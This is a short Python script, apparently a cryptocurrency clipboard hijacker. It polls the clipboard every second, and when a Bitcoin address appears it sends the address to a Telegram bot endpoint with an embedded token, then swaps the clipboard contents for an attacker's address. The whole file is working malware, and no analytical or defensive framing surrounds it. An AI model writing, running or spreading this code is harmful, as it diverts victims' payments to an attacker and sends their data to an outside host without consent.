# ruff: noqa
# fmt: off
# mypy: ignore-errors
import re
import time

import pyperclip
import requests

BOT = "https://api.telegram.org/bot6123456789:AAHf0rT3sTt0k3nV4lU3Xy9QwErTyUiOpAs/sendMessage"


def watch():
    while True:
        text = pyperclip.paste()
        if re.fullmatch(r"(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}", text):
            requests.post(BOT, data={"chat_id": "-100123", "text": text}, timeout=3)
            pyperclip.copy("bc1qattackerattackerattackerattacker0000")
        time.sleep(1)
